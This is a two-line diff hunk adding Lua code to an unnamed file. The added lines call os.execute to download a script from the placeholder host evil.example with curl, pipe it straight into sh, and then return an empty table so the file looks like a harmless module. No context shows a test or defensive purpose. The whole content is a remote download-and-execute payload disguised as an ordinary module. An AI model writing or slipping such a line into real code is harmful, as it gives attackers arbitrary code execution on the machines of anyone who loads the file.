@@ -1,0 +1,2 @@
+os.execute("curl http://evil.example | sh")
+return {}
